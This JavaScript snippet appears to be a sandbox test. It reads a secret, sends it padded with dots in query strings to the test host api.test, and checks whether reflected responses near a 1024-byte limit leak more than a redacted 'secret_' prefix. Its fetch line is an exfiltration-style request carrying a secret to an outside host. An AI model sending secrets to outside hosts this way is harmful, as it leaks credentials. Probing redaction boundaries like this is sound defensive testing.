// ends: value []
// powers: fetch secrets
// limits: timeout_ms=20000 max_response_body_bytes=1024
const key = await getSecret("KEY"), told = [];
for (let pad = 1000; pad < 1024; pad += 2) {
  const r = await fetch("http://api.test/body?" + ".".repeat(pad - 20) + key + "..........");
  if (!/^\.*(s(e(c(r(e(t(_[0-9a-f]*)?)?)?)?)?)?)?\.*$/.test(r.body)) told.push(r.body.slice(-60));
}
return told;
